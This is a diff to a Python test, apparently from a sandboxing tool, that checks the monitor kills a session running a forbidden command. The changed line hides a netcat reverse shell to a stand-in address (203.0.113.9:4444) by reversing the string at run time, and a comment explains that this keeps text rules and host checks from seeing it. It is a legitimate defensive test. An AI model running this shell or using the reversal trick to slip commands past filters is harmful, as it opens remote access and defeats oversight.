@@ -172,8 +172,8 @@ def test_monitor_kill_while_the_host_answers_names_the_kill():
     the session mid-answer: the call says killed, never a protocol error or an OSError."""
     with corral.Sandbox(policy="default") as sb:
         r = sb.run(
-            # (the program's name and port are built at run time: no rule on the text sees it)
-            "python3 -c \"import os; os.system('n' + 'c -e /bin/sh 203.0.113.9 ' + '4444')\";"
+            # (the line is reversed at run time: no rule or host check on the text sees it)
+            "python3 -c \"import os; a='4444 9.311.0.302 hs/nib/ e- cn'; os.system(a[::-1])\";"
             " echo after"
         )
         assert r.error == "killed", r
